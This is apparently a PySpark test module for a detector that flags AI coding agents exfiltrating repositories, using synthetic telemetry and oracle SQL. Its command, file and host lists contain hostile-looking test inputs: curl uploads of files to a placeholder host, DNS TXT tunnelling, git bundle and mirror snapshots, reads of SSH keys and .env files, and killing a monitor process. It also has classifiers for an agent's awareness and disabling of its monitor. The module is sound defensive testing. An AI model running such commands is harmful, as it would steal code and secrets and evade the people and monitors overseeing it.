"""Classifiers of single events and what a session's events show, bound to events.

Event number n is a process, a file access, a git command or a flow in turn; n and its payload pick
the command, path or host from lists that reach every branch.
"""

from __future__ import annotations

from pyspark.sql import DataFrame
from pyspark.sql import functions as F

from ..functions.tables import settle
from ..operators import behaviors, classify
from ..operators.behaviors import NO_TECHNIQUE, SECOND, STAGES, TECHNIQUES
from .scan import quoted
from .sessions import EVENTS, events

NAMES = ["bash", "claude", "node.exe", "wireshark", "sh", "python", "MSCopilotProxy", "Cursor Helper", "tcpview.exe", "git"]
COMMANDS = [
    "git status", "git bundle create a.bundle --all", "git archive HEAD", "git rev-list --all", "git cat-file -p x", "git stash list", "whoami", "taskkill /IM lodewatch*", "Stop-Process -Name other", "curl -d @x https://h", "curl https://h",
    "curl --upload-file x https://h", "nslookup -type=txt a.b", "nslookup x.exfil.net", "tar -czf a.tgz .git", "tar -xf a.tgz", "node dist/cli/main.js", "ps aux | grep mon", "run debugger now", "debugger-cli", "python a.py", "wget https://h",
    "C:\\Microsoft\\Copilot\\x", "aider --yes", "git diff --cached", "/dev/fd/7", "-c evil", "cat /dev/stdin", "git clone --mirror r", "make",
]
FILES = [
    "/r/.git/objects/ab", "/r/.git/HEAD", "/r/.git/logs/x", "/r/a.bundle", "/r/.git/index.bundle", "/r/.env", "/home/u/.ssh/id_rsa", "/r/src/a.js", "/tmp/x", "/r/b.gitbundle", "/r/TOKEN.txt", "/r/readme", "/var/secrets.env", "/r/decoy.docx",
    "/r/.git_canary_commit", "/r/objects/x",
]
GIT = [
    ("bundle", "git bundle create x"), ("archive", "git archive x"), ("rev-list", "git rev-list --all"), ("log", "git log -p"), ("log", "git log"), ("push", "git push --force"), ("push", "git push origin"), ("cat-file", "git cat-file -p x"),
    ("ls-tree", "git ls-tree HEAD"), ("show-ref", "git show-ref"), ("for-each-ref", "git for-each-ref"), ("status", "git status"), ("clone", "git clone x"), ("pack-objects", "git pack-objects"),
]
HOSTS = ["api.openai.com", "storage.example.com", "my-bucket.example.net", "dns.google", "127.0.0.1", "10.1.2.3", "172.16.0.9", "172.40.0.9", "192.168.1.1", "example.org", "dns.quad9.net", "8.8.8.8"]
URLS = ["/v1/messages", "/index.html", "/api/chat?x", "/v1/chat/completions", "/upload", "/", None]
CANARIES = [(1, ".secrets.env", "/canary/secrets.env"), (2, "decoy.docx", "/canary/Decoy.docx"), (3, ".git_canary_commit", "/canary/.git_canary_commit")]
MAPS = ["7f00-7f01 rwxp 00000000 00:00 0", "7f00-7f01 r-xp 00000000 08:01 99 /lib/x.so", "7f00-7f01 rw-p 00000000 00:01 5 /memfd:x (deleted)", "7f00-7f01 -wxp 00000000 00:00 0", "7f00-7f01 r--p 0 08:01 7 /a b (deleted)", "short line"]


def pick(values, index):
    return F.get(F.array(*map(F.lit, values)), (index % len(values)).cast("int"))


def telemetry(spark, sf_dir: str) -> DataFrame:
    """session, seq, ts, what (0 process, 1 file, 2 git, 3 flow) and the fields of all four."""
    e = events(spark, sf_dir)
    n = F.col("seq") * 7 + F.col("k")
    return e.select(
        "session", "seq", "ts", "k", "bytes", (F.col("seq") % 4).alias("what"), pick(NAMES, n + F.col("session")).alias("name"), pick(COMMANDS, n).alias("command"), pick(FILES, n + 3).alias("path"),
        F.when(F.col("k") % 3 == 0, "write").otherwise("read").alias("operation"), pick([a for a, _ in GIT], n).alias("action"), pick([c for _, c in GIT], n).alias("git"), pick(HOSTS, n).alias("host"), pick(URLS, n).alias("url"),
        (F.col("k") * 200_000).cast("long").alias("sent"), (F.col("k") % 50 * 3_000_000).cast("long").alias("received"), pick([443, 22, 80, 1023, 1024, 49151, 49152, 8443], n).alias("port"),
    )


def lists(values) -> str:
    return "[" + ", ".join("NULL" if v is None else quoted(v) if isinstance(v, str) else str(v) for v in values) + "]"


def picked(values, index: str) -> str:
    return f"{lists(values)}[(({index}) % {len(values)})::INT + 1]"


TELEMETRY = f"""(SELECT session, seq, ts, k, bytes, seq % 4 AS what, {picked(NAMES, 'n + session')} AS name, {picked(COMMANDS, 'n')} AS command, {picked(FILES, 'n + 3')} AS path, CASE WHEN k % 3 = 0 THEN 'write' ELSE 'read' END AS operation,
  {picked([a for a, _ in GIT], 'n')} AS action, {picked([c for _, c in GIT], 'n')} AS git, {picked(HOSTS, 'n')} AS host, {picked(URLS, 'n')} AS url, (k * 200000)::BIGINT AS sent, (k % 50 * 3000000)::BIGINT AS received, {picked([443, 22, 80, 1023, 1024, 49151, 49152, 8443], 'n')} AS port
  FROM (SELECT *, seq * 7 + k AS n FROM {EVENTS}))"""


def has(text: str, parts) -> str:
    return "(" + " OR ".join(f"contains({text}, {quoted(p)})" for p in parts) + ")"


def first(text: str, parts) -> str:
    return "CASE " + " ".join(f"WHEN contains({text}, {quoted(p)}) THEN {quoted(p)}" for p in parts) + " END"


NAME, CMD = "lower(name)", "lower(command)"
PROCESS_CASE = f"""CASE WHEN ({NAME} LIKE '%node.exe%' AND {CMD} LIKE '%dist/cli/main.js%') OR contains({NAME}, 'mscopilot') OR contains({CMD}, '\\microsoft\\copilot\\') THEN NULL
  WHEN contains({CMD}, 'tar') AND contains({CMD}, '.git') AND {has(CMD, ['-czf', '-zcf', '--create'])} THEN 'git_archive_created'
  WHEN contains({CMD}, 'nslookup') AND (contains({CMD}, '-type=txt') OR contains({CMD}, '-t=txt') OR regexp_matches({CMD}, {quoted(classify.TUNNEL)})) THEN 'dns_suspicious'
  WHEN contains({CMD}, 'curl') AND regexp_matches({CMD}, {quoted(classify.UPLOAD_FLAGS)}) THEN 'code_upload'
  {' '.join(f"WHEN contains({CMD}, {quoted(p)}) THEN {quoted(b)}" for p, b in reversed(classify.SENSITIVE_GIT))}
  WHEN regexp_matches({NAME}, {quoted(classify.AGENT_WORDS)}) OR regexp_matches({CMD}, {quoted(classify.AGENT_WORDS)}) THEN 'process_suspicious'
  WHEN {has(CMD, classify.KILLS)} AND contains({CMD}, {quoted(classify.MONITOR)}) THEN 'monitor_disabled'
  WHEN {has(NAME, classify.MONITOR_WORDS + classify.MONITOR_PHRASES)} OR {has(CMD, classify.MONITOR_PHRASES)} OR list_has_any(string_split_regex({CMD}, {quoted(classify.TOKEN_BREAKS)}), {lists(classify.MONITOR_WORDS)}) THEN 'monitor_awareness_detected' END"""
PATH = "lower(path)"
FILE_CASE = f"""CASE WHEN {PATH} LIKE '%.bundle' OR {PATH} LIKE '%.gitbundle' THEN 'git_bundle_created' WHEN contains({PATH}, '.git') AND {has(PATH, ['logs', 'index', 'config', 'head'])} THEN 'git_history_read'
  WHEN contains({PATH}, '.git') AND contains({PATH}, 'objects') THEN 'git_objects_read' WHEN {has(PATH, classify.SECRET_PARTS)} THEN 'secrets_scanned' END"""
GIT_CASE = f"CASE WHEN action = 'push' AND {has('lower(git)', classify.PUSH_FLAGS)} THEN 'full_repo_snapshot' {' '.join(f'WHEN action = {quoted(a)} THEN {quoted(b)}' for a, b in classify.GIT_ACTIONS.items())} END"
CLASSIFIED = f"""(SELECT session, seq, ts, type, CASE WHEN type = 'monitor_awareness_detected' THEN 0.85 WHEN type = 'monitor_disabled' THEN 0.9 ELSE 0.8 END::DOUBLE AS confidence FROM (SELECT *, {PROCESS_CASE} AS type FROM {TELEMETRY} WHERE what = 0) WHERE type IS NOT NULL
  UNION ALL SELECT session, seq, ts, 'preparation_detected', 0.8 FROM {TELEMETRY} WHERE what = 0 AND {first(CMD, classify.PREPARATION)} IS NOT NULL
  UNION ALL SELECT session, seq, ts, type, 0.85 FROM (SELECT *, {FILE_CASE} AS type FROM {TELEMETRY} WHERE what = 1) WHERE type IS NOT NULL
  UNION ALL SELECT session, seq, ts, type, 0.9 FROM (SELECT *, {GIT_CASE} AS type FROM {TELEMETRY} WHERE what = 2) WHERE type IS NOT NULL)"""


def classified(spark, sf_dir: str) -> DataFrame:
    t = telemetry(spark, sf_dir)
    keys = ["session", "seq", "ts"]
    process = t.where("what = 0").withColumn("type", classify.process_behavior(F.col("name"), F.col("command"))).where("type is not null")
    prepared = t.where("what = 0").where(classify.preparation(F.col("command")).isNotNull())
    files = t.where("what = 1").withColumn("type", classify.file_behavior(F.col("path"))).where("type is not null")
    git = t.where("what = 2").withColumn("type", classify.git_behavior(F.col("action"), F.col("git"))).where("type is not null")
    return (
        process.select(*keys, "type", classify.process_confidence(F.col("type")).alias("confidence"))
        .unionByName(prepared.select(*keys, F.lit("preparation_detected").alias("type"), F.lit(0.8).alias("confidence")))
        .unionByName(files.select(*keys, "type", F.lit(0.85).alias("confidence")))
        .unionByName(git.select(*keys, "type", F.lit(0.9).alias("confidence")))
    )


def event_behaviors(spark, sf_dir):
    return classified(spark, sf_dir)


def preparation_commands(spark, sf_dir):
    t = telemetry(spark, sf_dir).where("what = 0")
    return t.select("seq", classify.preparation(F.col("command")).alias("command")).where("command is not null")


def process_risk_indicators(spark, sf_dir):
    t = telemetry(spark, sf_dir).where("what = 0")
    return t.select("seq", F.array_join(classify.risk_indicators(F.col("name"), F.col("command")), ",").alias("indicators")).where("indicators <> ''")


INDICATORS = ", ".join([f"CASE WHEN {has(NAME, classify.INDICATOR_AGENTS)} OR {has(CMD, classify.INDICATOR_AGENTS)} THEN 'agent' END", *[f"CASE WHEN contains({CMD}, {quoted(c)}) THEN {quoted(c)} END" for c in classify.INDICATOR_COMMANDS]])


def flow_risk_factors(spark, sf_dir):
    t = telemetry(spark, sf_dir).where("what = 3")
    rows = t.select("seq", F.explode(classify.flow_factors(F.col("sent"), F.col("received"), F.col("host"))).alias("f"))
    return rows.select("seq", "f.name", "f.contribution")


def connection_filters(spark, sf_dir):
    t = telemetry(spark, sf_dir).where("what = 3")
    return t.select("seq", classify.is_private(F.col("host")).alias("private"), classify.is_watched_port(F.col("port")).alias("watched"), classify.dns_over_https(F.when(F.col("k") % 2 == 0, "tcp").otherwise("udp"), F.col("host")).alias("doh"))


def canary_accesses(spark, sf_dir):
    laid = spark.createDataFrame(CANARIES, "no int, name string, place string")
    found = classify.canary_hits(telemetry(spark, sf_dir).where("what = 1").select("seq", "path", "operation"), laid)
    return found.select("seq", "canary", "event", classify.canary_behavior(F.col("event")).alias("type"))


CANARY_SQL = f"""SELECT seq, canary, event, CASE event {' '.join(f'WHEN {quoted(a)} THEN {quoted(b)}' for a, b in classify.CANARY_EVENTS.items())} END AS type FROM (SELECT seq, canary,
  CASE WHEN canary = '.secrets.env' OR {has('lower(canary)', classify.SECRET_NAMES)} THEN 'fake_secret_read' WHEN canary = '.git_canary_commit' THEN 'contaminated_git_read' WHEN operation = 'read' THEN 'decoy_file_read' ELSE 'decoy_file_modified' END AS event
  FROM (SELECT seq, any_value(operation) AS operation, arg_min(c.name, c.no) AS canary FROM {TELEMETRY} t JOIN (VALUES {', '.join(f'({n}, {quoted(a)}, {quoted(b)})' for n, a, b in CANARIES)}) c(no, name, place)
    ON lower(t.path) = lower(c.place) OR regexp_extract(lower(t.path), '[^/]*$') = regexp_extract(lower(c.place), '[^/]*$') WHERE what = 1 GROUP BY seq))"""


def fileless_processes(spark, sf_dir):
    t = telemetry(spark, sf_dir).where("what = 0")
    return t.where(classify.fileless(F.col("name"), F.col("command"))).select("seq", "name", "command")


def ephemeral_processes(spark, sf_dir):
    """A process ends k - 10 milliseconds after its start: the negative ones are no lifetimes."""
    t = telemetry(spark, sf_dir).where("what = 0").select("session", F.lit(0).alias("start"), (F.col("k") * 2 - 10).alias("end"))
    return classify.lifetime_counts(t, ["session"], "start", "end")


def memory_map_flags(spark, sf_dir):
    t = telemetry(spark, sf_dir).where("what = 0").select("seq", pick(MAPS, F.col("seq") * 7 + F.col("k")).alias("line"))
    return t.select("seq", F.array_join(classify.map_flags(F.col("line")), ",").alias("flags")).where("flags <> ''")


MAPS_SQL = f"""SELECT seq, flags FROM (SELECT seq, array_to_string(list_filter([CASE WHEN contains(perms, 'rwx') AND p = '' THEN 'rwx' END, CASE WHEN contains(perms, 'wx') AND p = '' THEN 'wx' END,
    CASE WHEN contains(p, '/memfd:') OR contains(p, '/delayed_free') THEN 'memfd' END, CASE WHEN contains(p, '(deleted)') THEN 'deleted' END], lambda x: x IS NOT NULL), ',') AS flags
  FROM (SELECT seq, w[2] AS perms, array_to_string(w[6:], ' ') AS p FROM (SELECT seq, string_split_regex(trim({picked(MAPS, 'seq * 7 + k')}), '\\s+') AS w FROM {TELEMETRY} WHERE what = 0) WHERE len(w) >= 5)) WHERE flags <> ''"""


def signal_behaviors(spark, sf_dir):
    """Signals named by the event's number, with its payload as a score."""
    kinds = [*classify.EVASION_SIGNALS, "process_chain", "monitor_awareness", "other"]
    t = telemetry(spark, sf_dir).select("seq", pick(kinds, F.col("seq")).alias("kind"), (F.col("k") % 60).alias("score"))
    return t.groupBy("kind", classify.signal_behavior(F.col("kind"), F.col("score")).alias("type")).agg(F.count("*").alias("n"))


SIGNAL_KINDS = [*classify.EVASION_SIGNALS, "process_chain", "monitor_awareness", "other"]
SIGNAL_SQL = f"""SELECT kind, CASE WHEN kind = 'process_chain' THEN 'process_chain_detected' WHEN kind = 'monitor_awareness' THEN 'monitor_awareness_detected' WHEN kind IN ({', '.join(map(quoted, classify.EVASION_SIGNALS))}) OR score >= 30 THEN 'anti_evasion_detected' ELSE 'process_suspicious' END AS type, count(*) AS n
  FROM (SELECT {picked(SIGNAL_KINDS, 'seq')} AS kind, k % 60 AS score FROM {TELEMETRY}) GROUP BY ALL"""


def no_temp_files(spark, sf_dir):
    """Sessions by hundreds stand for one, so that some have many reads; those of odd number keep out of /tmp."""
    t = telemetry(spark, sf_dir).withColumn("session", F.col("session") % 5).where("session % 2 = 0 or path not like '/tmp/%'")
    return classify.no_temp_files(t, ["session"], "path", "operation")


def process_chain_signal(spark, sf_dir):
    return classify.process_chain(telemetry(spark, sf_dir).where("what = 0"), ["session"], "name", "command")


def preparation_phase(spark, sf_dir):
    return classify.preparation_phase(telemetry(spark, sf_dir).where("what = 0"), ["session"], "command")


def process_count_drop(spark, sf_dir):
    """Samples are days of a session; the number of processes is that of its events."""
    from pyspark.sql.window import Window

    day = F.floor(F.col("ts") / (3 * 86_400 * SECOND))
    counts = telemetry(spark, sf_dir).withColumn("session", F.col("session") % 20).groupBy("session", day.alias("sample")).agg(F.sum(F.col("k") % 7).alias("now"))
    before = F.lag("now").over(Window.partitionBy("session").orderBy("sample"))
    return counts.withColumn("before", before).where(classify.process_drop(F.col("now"), F.col("before"))).select("session", "sample", "now", "before")


def flags(spark, sf_dir: str) -> DataFrame:
    """A row a session: what its behaviours, flows and git commands show."""
    b, t = settle(classified(spark, sf_dir)), telemetry(spark, sf_dir)
    any_type = lambda *types: F.bool_or(F.col("type").isin(*types))
    shown = b.groupBy("session").agg(
        any_type("git_objects_read", "git_history_read", "repo_indexed").alias("git_read"), any_type("secrets_scanned").alias("mass_read"), any_type("git_bundle_created", "git_archive_created").alias("packed"), any_type("git_bundle_created").alias("bundle"),
        any_type("code_upload", "git_bundle_uploaded").alias("uploaded"), any_type("code_upload").alias("code_uploaded"), any_type("monitor_disabled").alias("embedded"), any_type("process_suspicious").alias("ai"),
        F.floor((F.max("ts") - F.min("ts")) / (86_400 * SECOND)).alias("span"),
    )
    seen = t.groupBy("session").agg(
        F.bool_or((F.col("what") == 3) & (F.col("sent") > 2**20) & (F.col("host") != "127.0.0.1")).alias("big_flow"), F.bool_or((F.col("what") == 3) & (F.col("sent") > 100 * 1024)).alias("some_flow"),
        F.count_if((F.col("what") == 2) & F.col("action").isin("rev-list", "pack-objects", "cat-file", "ls-tree")).alias("enumerations"), F.count_if(F.col("what") == 1).alias("files"),
        F.bool_or((F.col("what") == 2) & classify.detailed_log(F.col("git"))).alias("detailed"), F.bool_or((F.col("what") == 3) & ~(classify.is_private(F.col("host")) | F.col("host").startswith("172."))).alias("outward"),
        F.bool_or((F.col("what") == 3) & F.coalesce(classify.any_of(F.col("url"), classify.PROMPT_PATHS), F.lit(False))).alias("prompt"),
        F.bool_or((F.col("what") == 3) & (F.col("sent") > 5 * 1024) & (F.col("host") != "127.0.0.1")).alias("sent"),
    )
    more = b.groupBy("session").agg(any_type("git_history_read").alias("history"), any_type("preparation_detected").alias("prepared"), *[any_type(x).alias(f"has_{x}") for x in ("contaminated_git_read", "suspicious_connection", "ai_prompt_sent")])
    return shown.join(seen, "session").join(more, "session").withColumn("watched", F.col("session") % 2 == 0)


FLAGS_SQL = f"""flags AS (SELECT * FROM (SELECT session, bool_or(type IN ('git_objects_read', 'git_history_read', 'repo_indexed')) AS git_read, bool_or(type = 'secrets_scanned') AS mass_read, bool_or(type IN ('git_bundle_created', 'git_archive_created')) AS packed, bool_or(type = 'git_bundle_created') AS bundle,
    bool_or(type IN ('code_upload', 'git_bundle_uploaded')) AS uploaded, bool_or(type = 'code_upload') AS code_uploaded, bool_or(type = 'monitor_disabled') AS embedded, bool_or(type = 'process_suspicious') AS ai, floor((max(ts) - min(ts)) / {86_400 * SECOND}) AS span,
    bool_or(type = 'git_history_read') AS history, bool_or(type = 'preparation_detected') AS prepared FROM {CLASSIFIED} GROUP BY session)
  JOIN (SELECT session, bool_or(what = 3 AND sent > 1048576 AND host <> '127.0.0.1') AS big_flow, bool_or(what = 3 AND sent > 102400) AS some_flow, count(*) FILTER (WHERE what = 2 AND action IN ('rev-list', 'pack-objects', 'cat-file', 'ls-tree')) AS enumerations,
    count(*) FILTER (WHERE what = 1) AS files, bool_or(what = 2 AND list_has_any(string_split(lower(git), ' '), ['-p', '--patch', '--stat', 'show'])) AS detailed,
    bool_or(what = 3 AND NOT (host IN ('127.0.0.1', '::1') OR host LIKE '10.%' OR host LIKE '192.168.%' OR host LIKE '172.%')) AS outward, bool_or(what = 3 AND coalesce({has('url', classify.PROMPT_PATHS)}, false)) AS prompt,
    bool_or(what = 3 AND sent > 5120 AND host <> '127.0.0.1') AS sent FROM {TELEMETRY} GROUP BY session) USING (session))"""


def evidence_chains(spark, sf_dir):
    found = classify.evidence_chains(flags(spark, sf_dir), ["session"])
    return found.withColumn("type", classify.chain_behavior(F.col("chain")))


EXFIL_STEPS = "array_to_string(list_filter(['repo_read', CASE WHEN packed THEN 'compression' END, CASE WHEN big_flow THEN 'connection_open' END, 'data_transmit'], lambda x: x IS NOT NULL), '>')"
CHAINS_SQL = f"""WITH {FLAGS_SQL} SELECT *, CASE WHEN chain = 'pre_operational_snapshot' THEN 'pre_operational_snapshot_detected' ELSE 'evidence_chain_detected' END AS type FROM (
  SELECT session, 'repository_exfiltration_chain' AS chain, {EXFIL_STEPS} AS steps, round(least(0.5 + len(string_split({EXFIL_STEPS}, '>')) * 0.1 + CASE WHEN span < 60 THEN 0.2 ELSE 0 END, 0.95)::DOUBLE, 6) AS confidence FROM flags WHERE (git_read OR mass_read) AND uploaded
  UNION ALL SELECT session, 'pre_operational_snapshot', array_to_string(list_concat(list_transform(range(0, least(enumerations, 5)), lambda i: 'git_preparation'), list_filter([CASE WHEN bundle THEN 'archival' END, CASE WHEN uploaded THEN 'transmission' END], lambda x: x IS NOT NULL)), '>'), CASE WHEN uploaded THEN 0.9 ELSE 0.7 END FROM flags WHERE enumerations >= 2
  UNION ALL SELECT session, 'full_snapshot_transfer', 'mass_read>external_transmission', 0.75 FROM flags WHERE mass_read AND (code_uploaded OR some_flow)
  UNION ALL SELECT session, 'ai_embedding_chain', 'embedding_generation' || CASE WHEN ai THEN '>ai_transmission' ELSE '' END, 0.7 FROM flags WHERE embedded AND (ai OR files >= 100))"""


def inferred_behaviors(spark, sf_dir):
    """Both cascades over the classified events of a session."""
    f = settle(flags(spark, sf_dir))
    early = behaviors.inferred(classified(spark, sf_dir), f.select("session", "sent")).select("session", "type", "confidence")
    return early.where("type <> 'suspicious_connection'").unionByName(classify.inferred_late(f, ["session"]))


INFERRED_SQL = f"""WITH {FLAGS_SQL}, s AS (SELECT session, {', '.join(f"bool_or(type = '{t}') AS {t}" for t in ('git_bundle_created', 'git_objects_read', 'full_repo_snapshot', 'code_upload', 'secrets_scanned'))} FROM {CLASSIFIED} GROUP BY session),
  j AS (SELECT *, code_upload OR coalesce(sent, false) AS out FROM s JOIN flags USING (session))
  SELECT session, 'full_repo_snapshot' AS type, 0.9::DOUBLE AS confidence FROM j WHERE git_bundle_created AND NOT full_repo_snapshot
  UNION ALL SELECT session, 'git_bundle_uploaded', 0.95 FROM j WHERE git_bundle_created AND out
  UNION ALL SELECT session, 'full_repo_snapshot', 0.9 FROM j WHERE git_objects_read AND out AND NOT full_repo_snapshot AND NOT git_bundle_created
  UNION ALL SELECT session, 'secrets_exfiltrated', 0.95 FROM j WHERE secrets_scanned AND out
  UNION ALL SELECT session, 'contaminated_git_read', 0.9 FROM flags WHERE history AND detailed AND session % 2 = 0
  UNION ALL SELECT session, 'suspicious_connection', 0.8 FROM flags WHERE prepared AND outward
  UNION ALL SELECT session, 'ai_prompt_sent', 0.9 FROM flags WHERE prompt"""


def embedding_pattern(spark, sf_dir):
    """Reads of four large sessions, in input order; those of even number read every 100 ms, the others by their own clock."""
    from pyspark.sql.window import Window

    t = telemetry(spark, sf_dir).select((F.col("k") % 4).alias("session"), "seq", "ts", "k")
    nth = F.row_number().over(Window.partitionBy("session").orderBy("seq"))
    t = t.withColumn("ms", F.when(F.col("session") % 2 == 0, nth * 100 + F.col("k") % 3).otherwise(F.floor(F.col("ts") / 1000)).cast("long"))
    return classify.embedding_pattern(t, ["session"], "seq", "ms")


EMBEDDING_SQL = f"""SELECT * FROM (SELECT session, count(*) AS n, round(sum(gap)::DOUBLE / count(gap), 6) AS gap, round(sqrt((count(gap) * sum((gap * gap)::HUGEINT) - sum(gap)::HUGEINT * sum(gap)::HUGEINT)::DOUBLE) / count(gap), 6) AS spread FROM
  (SELECT session, ms - lag(ms) OVER (PARTITION BY session ORDER BY seq) AS gap FROM (SELECT k % 4 AS session, seq, CASE WHEN k % 2 = 0 THEN row_number() OVER (PARTITION BY k % 4 ORDER BY seq) * 100 + k % 3 ELSE ts // 1000 END AS ms FROM {TELEMETRY})) GROUP BY session) WHERE n >= 200 AND spread < 0.5 * gap"""


def first_behavior_chain(spark, sf_dir):
    return behaviors.first_chain(classified(spark, sf_dir))


def technique_mapping(spark, sf_dir):
    return behaviors.mapped(classified(spark, sf_dir)).groupBy("type", "technique", "tactic", "stage").agg(F.count("*").alias("n"))


DIM = f"(VALUES {', '.join(str(t) for t in TECHNIQUES)}) d(type, technique, tactic, stage)"


def stage_timeline(spark, sf_dir):
    return behaviors.stage_timeline(classified(spark, sf_dir))


STAGE_SQL = f"""SELECT session, stage, place, first_ts, n, array_to_string(list_sort(types)[:3], ',') AS evidence FROM (SELECT session, coalesce(stage, '{NO_TECHNIQUE[2]}') AS stage, (list_position({lists(STAGES)}, coalesce(stage, '{NO_TECHNIQUE[2]}')) - 1)::INT AS place, min(ts) AS first_ts, count(*) AS n, list(DISTINCT type) AS types
  FROM {CLASSIFIED} LEFT JOIN {DIM} USING (type) GROUP BY ALL)"""


QUERIES = {
    f.__name__: f
    for f in (
        event_behaviors, preparation_commands, process_risk_indicators, flow_risk_factors, connection_filters, canary_accesses, fileless_processes, ephemeral_processes, memory_map_flags, signal_behaviors, no_temp_files, process_chain_signal,
        preparation_phase, process_count_drop, evidence_chains, inferred_behaviors, embedding_pattern, first_behavior_chain, technique_mapping, stage_timeline,
    )
}
PROCESSES = f"(SELECT * FROM {TELEMETRY} WHERE what = 0)"
ORACLE_SQL = {
    "event_behaviors": f"SELECT * FROM {CLASSIFIED}",
    "preparation_commands": f"SELECT * FROM (SELECT seq, {first(CMD, classify.PREPARATION)} AS command FROM {PROCESSES}) WHERE command IS NOT NULL",
    "process_risk_indicators": f"SELECT * FROM (SELECT seq, CASE WHEN contains({CMD}, '\\microsoft\\copilot\\') THEN '' ELSE array_to_string(list_filter([{INDICATORS}], lambda x: x IS NOT NULL), ',') END AS indicators FROM {PROCESSES}) WHERE indicators <> ''",
    "flow_risk_factors": f"""WITH f AS (SELECT * FROM {TELEMETRY} WHERE what = 3) SELECT seq, 'large_upload' AS name, 30 AS contribution FROM f WHERE sent > 10485760 UNION ALL SELECT seq, 'medium_upload', 15 FROM f WHERE sent > 1048576 AND sent <= 10485760
      UNION ALL SELECT seq, 'high_volume_session', 20 FROM f WHERE sent + received > 104857600 UNION ALL SELECT seq, 'storage_host', 15 FROM f WHERE contains(host, 'storage.') OR contains(host, 'bucket')""",
    "connection_filters": f"""SELECT seq, host IN ('127.0.0.1', '::1') OR host LIKE '10.%' OR host LIKE '192.168.%' OR (host LIKE '172.%' AND try_cast(string_split(host, '.')[2] AS INT) BETWEEN 16 AND 31) AS private, port IN (443, 80, 8443, 8080, 3000, 5000) OR port BETWEEN 1024 AND 49151 AS watched,
      k % 2 = 0 AND {has('host', classify.DOH_HOSTS)} AS doh FROM {TELEMETRY} WHERE what = 3""",
    "canary_accesses": CANARY_SQL,
    "fileless_processes": f"SELECT seq, name, command FROM {PROCESSES} WHERE regexp_matches(command, '/dev/fd/[0-9]+|pipe:\\[[0-9]+\\]|socket:\\[[0-9]+\\]') OR (command LIKE '-%' AND length(command) > 3) OR (name = 'sh' AND contains(command, '/dev/stdin'))",
    "ephemeral_processes": f"SELECT session, {', '.join(f'count(*) FILTER (WHERE k * 2 - 10 >= 0 AND k * 2 - 10 < {t}) AS under_{t}' for t in (25, 50, 100))} FROM {PROCESSES} GROUP BY session",
    "memory_map_flags": MAPS_SQL,
    "signal_behaviors": SIGNAL_SQL,
    "no_temp_files": f"SELECT session, reads FROM (SELECT session % 5 AS session, count(*) FILTER (WHERE operation = 'read') AS reads, count(*) FILTER (WHERE {has(PATH, classify.TEMP_PARTS)}) AS temp FROM {TELEMETRY} WHERE session % 5 % 2 = 0 OR path NOT LIKE '/tmp/%' GROUP BY 1) WHERE temp = 0 AND reads >= 300",
    "process_chain_signal": f"SELECT session, agents, tools, round(least(0.5 + tools * 0.05, 0.9)::DOUBLE, 6) AS confidence FROM (SELECT session, count(*) AS n, count(*) FILTER (WHERE {has(NAME, classify.CHAIN_AGENTS)}) AS agents, count(*) FILTER (WHERE {has(CMD, classify.CHAIN_TOOLS)}) AS tools FROM {PROCESSES} GROUP BY session) WHERE n >= 3 AND agents > 0 AND tools >= 2",
    "preparation_phase": f"SELECT session, array_to_string(list_sort(list(DISTINCT c)), ',') AS commands, count(*) AS n, round(least(0.5 + count(*) * 0.1, 0.95)::DOUBLE, 6) AS confidence FROM (SELECT session, {first(CMD, classify.PHASE_COMMANDS)} AS c FROM {PROCESSES}) WHERE c IS NOT NULL GROUP BY session",
    "process_count_drop": f"SELECT * FROM (SELECT session, sample, now, lag(now) OVER (PARTITION BY session ORDER BY sample) AS before FROM (SELECT session % 20 AS session, ts // {3 * 86_400 * SECOND} AS sample, sum(k % 7)::BIGINT AS now FROM {TELEMETRY} GROUP BY ALL)) WHERE before - now > 5 AND now < before * 0.5",
    "evidence_chains": CHAINS_SQL,
    "inferred_behaviors": INFERRED_SQL,
    "embedding_pattern": EMBEDDING_SQL,
    "first_behavior_chain": f"SELECT session, string_agg(type, '>' ORDER BY first_ts, type) AS chain FROM (SELECT session, type, min(ts) AS first_ts FROM {CLASSIFIED} GROUP BY ALL) GROUP BY session",
    "technique_mapping": f"SELECT type, coalesce(technique, '{NO_TECHNIQUE[0]}') AS technique, coalesce(tactic, '{NO_TECHNIQUE[1]}') AS tactic, coalesce(stage, '{NO_TECHNIQUE[2]}') AS stage, count(*) AS n FROM {CLASSIFIED} LEFT JOIN {DIM} USING (type) GROUP BY ALL",
    "stage_timeline": STAGE_SQL,
}
